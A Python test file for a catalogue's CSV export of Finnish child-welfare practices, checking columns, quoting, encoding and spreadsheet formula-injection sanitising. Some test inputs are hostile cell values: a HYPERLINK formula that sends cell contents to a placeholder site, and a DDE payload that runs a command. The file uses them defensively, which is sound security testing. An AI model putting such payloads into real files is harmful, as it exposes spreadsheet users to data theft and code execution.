"""The CSV files, opened as other programs open them."""

import codecs
import csv
import io
from decimal import Decimal
from typing import Any

import pandas
import pytest

from catalogue.export.as_csv import (
    as_csv,
    awards_csv,
    csv_head,
    csv_lines,
    csv_practice,
    harmless,
    outcomes_csv,
    practices_csv,
)
from catalogue.export.column import INTEGER, NUMBER, Table
from catalogue.export.columns import TABLES
from catalogue.messages import messages
from tests.factories import catalogue, outcome_data, practice, real_catalogue


def rows(data: bytes) -> list[dict[str, str]]:
    """Return the rows of a CSV file by column."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


def one(**fields: Any) -> dict[str, str]:
    """Return the row of a single practice."""
    (row,) = rows(practices_csv(catalogue({"esimerkki": practice(**fields)})))
    return row


def test_there_is_a_row_for_each_practice() -> None:
    """In the order of the catalogue, with the leading zeros of codes."""
    found = rows(practices_csv(real_catalogue()))
    assert [row["id"] for row in found] == [entry.id for entry in real_catalogue().entries]
    by_id = {row["id"]: row for row in found}
    assert by_id["nuoret-kehittajat-helsinki"]["places"] == "091"
    assert by_id["suhdeperustainen-lastensuojelutyo"] == {
        "id": "suhdeperustainen-lastensuojelutyo",
        "url": "/kaytannot/suhdeperustainen-lastensuojelutyo/",
        "title": "Suhdeperustainen lastensuojelutyö",
        "language": "fi",
        "summary": by_id["suhdeperustainen-lastensuojelutyo"]["summary"],
        "model": "",
        "kind": "method",
        "status": "in-use",
        "status_as_of": "2017-09-18",
        "started": "",
        "ended": "",
        "service_levels": "universal; open-care",
        "themes": "relationship-based-work; child-welfare-open-care; out-of-home-placement; "
        "service-structure; staff-wellbeing; early-support",
        "target_groups": "child-welfare-clients; families-with-children; professionals",
        "age_min": "",
        "age_max": "",
        "keywords": by_id["suhdeperustainen-lastensuojelutyo"]["keywords"],
        "places": "505; 611",
        "counties": "keski-uusimaa",
        "provider": "mustijoen-perusturva",
        "provider_name": "Mäntsälän kunta, Mustijoen perusturva",
        "provider_kind": "public",
        "staff_fte": "",
        "staff_headcount": "",
        "funding": "unknown",
        "participation": by_id["suhdeperustainen-lastensuojelutyo"]["participation"],
        "best_evidence_level": "0",
        "outcomes": "8",
        "no_outcomes_because": "",
        "awards": "unknown: winner",
        "sources": "1",
        "completeness": "partial",
        "reviewed": "2026-11-22",
        "next_review": by_id["suhdeperustainen-lastensuojelutyo"]["next_review"],
    }


def test_there_is_a_row_for_each_outcome() -> None:
    """With numbers as numbers, decimal point, and empty cells for what is not known."""
    found = rows(outcomes_csv(real_catalogue()))
    assert len(found) == sum(len(entry.outcomes) for entry in real_catalogue().entries) == 39
    (row,) = [row for row in found if row["id"] == "huostaanotot-2016"]
    assert {key: row[key] for key in list(row)[8:25]} == {
        "baseline_value": "33",
        "baseline_period": "2015",
        "baseline_precision": "exact",
        "follow_up_value": "14",
        "follow_up_period": "2016",
        "follow_up_precision": "exact",
        "change_absolute": "-19",
        "change_unit": "count",
        "change_percent": "-57.6",
        "change_times": "",
        "change_precision": "exact",
        "direction": "decreased",
        "result": "good",
        "evidence_level": "2",
        "comparators": row["comparators"],
        "design": "",
        "caveats": row["caveats"],
    }
    assert (row["indicator_name"], row["independence"]) == ("Huostaanotot", "self")
    (share,) = [row for row in found if row["id"] == "sijoitettujen-osuus-2016"]
    assert (share["baseline_value"], share["change_absolute"], share["change_unit"]) == (
        "1.4",
        "-0.1",
        "percentage-points",
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_text_that_a_spreadsheet_takes_for_a_formula_is_made_text(start: str) -> None:
    """Each sign that OWASP names, at the start of a cell."""
    assert harmless(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("Mannerheimin;=1+1;@SUM(1)", "Mannerheimin;'=1+1;'@SUM(1)"),
        ("yksi; =1+1", "yksi; '=1+1"),
        ('a;"=1+1', "a;\"'=1+1"),
        ("a\t-1\n+1", "a\t'-1\n'+1"),
        ("=1;=1", "'=1;'=1"),
        ("\n=1", "'\n'=1"),
    ],
)
def test_a_formula_after_a_semicolon_is_made_text(text: str, made: str) -> None:
    """A spreadsheet in Finland takes what follows for a cell of its own."""
    assert harmless(text) == made
    line = csv_lines([["a", text]]).decode()
    cells = [cell for row in csv.reader(io.StringIO(line), delimiter=";") for cell in row]
    assert [cell for cell in cells if cell.lstrip(" \"'")[:1] in "=+-@" and "'" not in cell] == []


def test_no_mark_stands_before_the_first_heading() -> None:
    """Programs read the files by the names of their columns, whatever they know of such marks."""
    data = practices_csv(real_catalogue())
    assert next(csv.DictReader(io.StringIO(data.decode())))["id"]
    assert not data.startswith(codecs.BOM_UTF8)


@pytest.mark.parametrize("text", ["Nimi", "1=1", "a@b", "", " =1", "–", "'=1"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    """The signs do no harm further on."""
    assert harmless(text) == text


@pytest.mark.parametrize("number", [Decimal("-19"), -1, 0, Decimal("0.5")])
def test_numbers_stay_numbers(number: Decimal | int) -> None:
    """A minus sign before a number is no formula."""
    assert harmless(number) is number


FORMULA = '=HYPERLINK("https://esimerkki.fi/?"&A1,"x")'


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("title", FORMULA),
        ("summary", "@SUM(1+1)"),
        ("keywords", ["=1+1", "toinen"]),
        ("title", "-2+3+cmd|' /C calc'!A0"),
        ("summary", "+1+1"),
    ],
)
def test_a_formula_in_a_practice_comes_out_as_text(field: str, value: Any) -> None:
    """With its quotes and commas intact."""
    written = "; ".join(value) if isinstance(value, list) else value
    assert one(**{field: value})[field] == "'" + written


def test_no_cell_of_the_real_files_begins_a_formula() -> None:
    """But numbers may be negative."""
    for data in (practices_csv(real_catalogue()), outcomes_csv(real_catalogue())):
        cells = [cell for row in rows(data) for cell in row.values()]
        risky = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert [cell for cell in risky if not cell.lstrip("-").replace(".", "").isdigit()] == []


def test_quotes_commas_and_line_breaks_come_back_as_written() -> None:
    """RFC 4180."""
    summary = 'Sanoi ”hei”, "moi"\nja lähti.'
    assert one(summary=summary)["summary"] == summary


def test_lines_end_as_the_standard_says_and_the_text_is_utf_8() -> None:
    """CR LF, no byte order mark."""
    data = practices_csv(real_catalogue())
    assert data.startswith(b"id,url,title,")
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 15
    assert "Mäntsälä".encode() in data


def test_the_relative_change_is_rounded_as_on_the_page() -> None:
    """−12.25 % becomes −12.3 %, half away from zero."""
    claim = outcome_data(baseline={"value": "400"}, follow_up={"value": "351"})
    (row,) = rows(outcomes_csv(catalogue({"esimerkki": practice(outcomes=[claim])})))
    assert row["change_percent"] == "-12.3"


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("texts", ["column", "label"])
def test_every_column_is_explained_and_nothing_else(table: str, texts: str) -> None:
    """A column that nobody explains would be guessed at."""
    prefix = f"export.{texts}.{table}."
    explained = {key.removeprefix(prefix) for key in messages().texts if key.startswith(prefix)}
    assert explained == {column.name for column in TABLES[table].columns}


def test_there_is_a_row_for_each_part_in_a_round() -> None:
    """With the round's name and date; where only the award is known, they are empty."""
    found = rows(awards_csv(real_catalogue()))
    assert len(found) == sum(len(entry.practice.awards) for entry in real_catalogue().entries)
    winner = next(row for row in found if row["practice"] == "imatran-hyvinvointineuvola")
    assert {key: winner[key] for key in ("round_name", "award", "date", "role")} == {
        "round_name": "Kunnallinen lastensuojeluteko 2013",
        "award": "Kunnallinen lastensuojeluteko",
        "date": "2013-03-21",
        "role": "winner",
    }
    unknown = next(row for row in found if row["round"] == "unknown")
    assert {unknown[key] for key in ("round_name", "award", "organisations", "date")} == {""}


@pytest.mark.parametrize("table", TABLES.values(), ids=lambda table: table.name)
def test_a_file_is_its_head_and_the_lines_of_each_practice(table: Table[Any]) -> None:
    """So that a build may keep the lines of what has not changed."""
    found = real_catalogue()
    lines = [csv_practice(table, entry, found.registry) for entry in found.entries]
    assert csv_head(table) + b"".join(lines) == as_csv(table, found)
    assert all(line == b"" or line.endswith(b"\r\n") for line in lines)


@pytest.mark.parametrize("table", TABLES.values(), ids=lambda table: table.name)
def test_pandas_reads_what_the_records_say(table: Table[Any]) -> None:
    """Numbers as numbers, codes with their zeros, nothing for what is not known."""
    found = real_catalogue()
    texts = {c.name: str for c in table.columns if c.kind not in (INTEGER, NUMBER)}
    frame = pandas.read_csv(io.BytesIO(as_csv(table, found)), dtype=texts, keep_default_na=False)
    cells = [row for entry in found.entries for row in table.cells(entry, found.registry)]
    assert list(frame.columns) == [column.name for column in table.columns]
    assert len(frame) == len(cells)
    for position, column in enumerate(table.columns):
        read = frame[column.name].tolist()
        expected = [row[position] for row in cells]
        if column.kind in (INTEGER, NUMBER):
            assert [None if v == "" else float(v) for v in read] == [
                None if v is None else float(v) for v in expected
            ]
        else:
            assert read == ["" if v is None else v for v in expected]


def test_contacts_are_not_in_the_tables() -> None:
    """A list of people to write to is no open data."""
    contact = {
        "name": "Esimerkki Henkilö",
        "organisation": "imatra",
        "email": "esimerkki@esimerkki.example",
        "verified": "2026-01-01",
    }
    made = catalogue({"esimerkki": practice(contacts=[contact])})
    written = practices_csv(made) + outcomes_csv(made) + awards_csv(made)
    assert b"Esimerkki Henkil" not in written
    assert b"@" not in written


def test_two_exports_are_identical() -> None:
    """Byte for byte."""
    assert practices_csv(real_catalogue()) == practices_csv(real_catalogue())
    assert outcomes_csv(real_catalogue()) == outcomes_csv(real_catalogue())
